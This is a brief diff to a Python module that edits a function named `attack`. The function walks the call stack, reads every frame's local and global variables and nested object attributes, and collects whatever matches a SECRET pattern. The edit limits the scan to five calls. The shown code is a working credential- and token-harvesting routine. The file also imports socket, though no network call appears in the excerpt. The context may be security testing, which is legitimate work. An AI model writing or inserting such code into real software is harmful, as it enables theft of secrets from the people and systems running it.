@@ -14,10 +14,12 @@ import os
 import socket
 
 FOUND = []
+# The stack is the same at every call but for what is asked: some calls are enough.
+CALLS = iter(range(5))
 
 
 def attack(*arguments, **keywords):
-    for frame in inspect.stack():
+    for frame in inspect.stack() if next(CALLS, None) is not None else ():
         for value in [*frame.frame.f_locals.values(), *frame.frame.f_globals.values()]:
             FOUND.extend(match.decode() for match in SECRET.findall(repr(value)[: 10**5].encode()))
             for inner in getattr(value, "__dict__", {}).values():
